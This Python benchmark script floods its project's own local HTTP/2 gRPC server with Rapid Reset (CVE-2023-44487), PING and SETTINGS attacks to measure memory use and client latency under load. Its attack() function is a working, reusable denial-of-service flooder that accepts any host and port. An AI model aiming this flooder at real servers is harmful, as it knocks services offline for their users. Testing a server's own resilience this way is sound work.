"""HTTP/2 floods against a `muxs serve` process, from an attacker process of their own.

    python -m bench.floods [--loops asyncio uvloop] [--rounds 3] [--seconds 10] [--json]

For each event loop, two scenarios, each against a fresh `muxs serve` (default limits):

- ``reset``: ``--rounds`` rounds of Rapid Reset (CVE-2023-44487), each an attacker process
  opening and resetting SayHellos as fast as its socket goes until the server sends GOAWAY
  (``reset_budget``). The server's RSS is sampled before, during (the peak) and after each
  round (once its connection is gone and a second has passed): flat "after" figures over
  rounds tell the allocator's high-water mark, which later rounds reuse, from a leak.
- ``pings`` and ``mixed``: a sustained flood for ``--seconds`` (``pings``: PINGs and
  SETTINGS; ``mixed``: Rapid Resets among them), the server's budgets off so that it is
  never cut off, its replies read, while a well-behaved client calls SayHello one call at
  a time; its p50, p99 and max latency, against the same client with no flood.

Wall-clock figures on a shared machine: compare the loops side by side within one run.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import socket
import statistics
import sys
import tempfile
import threading
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path

import h2.config
import h2.connection
from h2.errors import ErrorCodes
from hyperframe.frame import PingFrame, SettingsFrame

from bench.soak import rss_mb, start_server
from muxs import Client

SAY_HELLO = "/muxs.Greeter/SayHello"
HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", SAY_HELLO),
    (":authority", "127.0.0.1"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
PING = PingFrame(0, opaque_data=b"flooding").serialize()
SETTINGS = SettingsFrame(0).serialize()
#: Each write of a flood: (streams opened and reset, PINGs, SETTINGS).
FLOODS = {"reset": (100, 0, 0), "pings": (0, 2000, 400), "mixed": (100, 500, 100)}
SETTLE_SECONDS = 1.0  # after the attacker's connection is gone, before RSS is read "after"
RESET_GUARD_SECONDS = 60.0  # a Rapid Reset round the server never stops ends then
CALL_TIMEOUT = 60.0


def attack(host: str, port: int, kind: str, seconds: float) -> int:
    """The attacker (its own process): a flood of ``kind`` (``FLOODS``) for ``seconds`` or
    until the server closes the connection; returns the streams it reset."""
    sock = socket.create_connection((host, port))
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    sock.sendall(client.data_to_send())
    threading.Thread(target=_drain, args=(sock,), daemon=True).start()
    streams, pings, settings = FLOODS[kind]
    resets, until = 0, time.monotonic() + seconds
    with contextlib.suppress(OSError):
        while time.monotonic() < until:
            for _ in range(streams):
                stream_id = client.get_next_available_stream_id()
                client.send_headers(stream_id, HEADERS)
                client.reset_stream(stream_id, ErrorCodes.CANCEL)
            sock.sendall(client.data_to_send() + PING * pings + SETTINGS * settings)
            resets += streams
    sock.close()
    return resets


def _drain(sock: socket.socket) -> None:
    """Read (and drop) what the server sends, so that it never stops reading us."""
    with contextlib.suppress(OSError):
        while sock.recv(65536):
            pass


async def run_attacker(target: str, kind: str, seconds: float) -> asyncio.subprocess.Process:
    host, port = target.rsplit(":", 1)
    return await asyncio.create_subprocess_exec(
        *[sys.executable, "-m", "bench.floods", "--attack", kind, host, port, str(seconds)],
        stdout=asyncio.subprocess.PIPE,
    )


@dataclass
class Round:
    resets: int
    rss_before_mb: float
    rss_peak_mb: float
    rss_after_mb: float


@dataclass
class Latencies:
    calls: int
    p50_ms: float
    p99_ms: float
    max_ms: float


@dataclass
class LoopReport:
    loop: str
    rounds: list[Round] = field(default_factory=list)
    quiet: Latencies | None = None
    flooded: dict[str, Latencies] = field(default_factory=dict)


async def reset_rounds(loop: str, rounds: int, scratch: Path) -> list[Round]:
    process, target = await start_server(scratch / f"reset-{loop}", "--event-loop", loop)
    done = []
    try:
        async with Client(target) as client:
            await client.say_hello("warm-up")
        await asyncio.sleep(SETTLE_SECONDS)
        for _ in range(rounds):
            before = peak = rss_mb(process.pid)
            attacker = await run_attacker(target, "reset", RESET_GUARD_SECONDS)
            while attacker.returncode is None:
                peak = max(peak, rss_mb(process.pid))
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(attacker.wait(), 0.05)
            assert attacker.stdout is not None
            resets = int((await attacker.stdout.read()).decode() or 0)
            await asyncio.sleep(SETTLE_SECONDS)
            done.append(Round(resets, before, peak, rss_mb(process.pid)))
    finally:
        await stop(process)
    return done


async def latencies(target: str, seconds: float) -> Latencies:
    """SayHello one call at a time for ``seconds``."""
    taken = []
    async with Client(target, timeout=CALL_TIMEOUT) as client:
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            start = time.perf_counter()
            await client.say_hello("good")
            taken.append((time.perf_counter() - start) * 1000)
    taken.sort()
    return Latencies(
        len(taken),
        statistics.median(taken),
        taken[min(len(taken) - 1, int(len(taken) * 0.99))],
        taken[-1],
    )


async def flood(loop: str, seconds: float, scratch: Path, report: LoopReport) -> None:
    process, target = await start_server(
        scratch / f"flood-{loop}",
        *["--event-loop", loop, "--reset-budget", "0", "--control-frame-budget", "0"],
    )
    try:
        report.quiet = await latencies(target, seconds)
        for kind in ("pings", "mixed"):
            attacker = await run_attacker(target, kind, seconds + 2)
            await asyncio.sleep(1.0)  # the flood is under way
            report.flooded[kind] = await latencies(target, seconds)
            await attacker.wait()
    finally:
        await stop(process)


async def stop(process: asyncio.subprocess.Process) -> None:
    process.terminate()
    with contextlib.suppress(ProcessLookupError):
        await asyncio.wait_for(process.wait(), 30)


async def floods(loops: list[str], rounds: int, seconds: float) -> list[LoopReport]:
    reports = []
    with tempfile.TemporaryDirectory(prefix="muxs-floods-") as scratch:
        for loop in loops:
            report = LoopReport(loop, await reset_rounds(loop, rounds, Path(scratch)))
            await flood(loop, seconds, Path(scratch), report)
            reports.append(report)
    return reports


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--loops", nargs="+", default=["asyncio", "uvloop"])
    parser.add_argument("--rounds", type=int, default=3, help="Rapid Reset rounds (default 3)")
    parser.add_argument("--seconds", type=float, default=10.0, help="of calls, quiet and flooded")
    parser.add_argument("--json", action="store_true", help="print the reports as JSON")
    parser.add_argument("--attack", nargs=4, help=argparse.SUPPRESS)  # the attacker process
    args = parser.parse_args(argv)
    if args.attack:
        kind, host, port, seconds = args.attack
        print(attack(host, int(port), kind, float(seconds)))
        return 0
    reports = asyncio.run(floods(args.loops, args.rounds, args.seconds))
    if args.json:
        print(json.dumps([asdict(report) for report in reports]))
        return 0
    for report in reports:
        for number, one in enumerate(report.rounds, 1):
            print(
                f"{report.loop} Rapid Reset round {number}: {one.resets} resets sent, server RSS "
                f"{one.rss_before_mb:.1f} -> peak {one.rss_peak_mb:.1f} -> "
                f"{one.rss_after_mb:.1f} MiB"
            )
        assert report.quiet is not None
        for name, figures in [("quiet", report.quiet), *report.flooded.items()]:
            print(
                f"{report.loop} SayHello {name}: {figures.calls} calls, p50 "
                f"{figures.p50_ms:.1f} ms, p99 {figures.p99_ms:.1f} ms, max {figures.max_ms:.1f} ms"
            )
    return 0


if __name__ == "__main__":
    sys.exit(main())
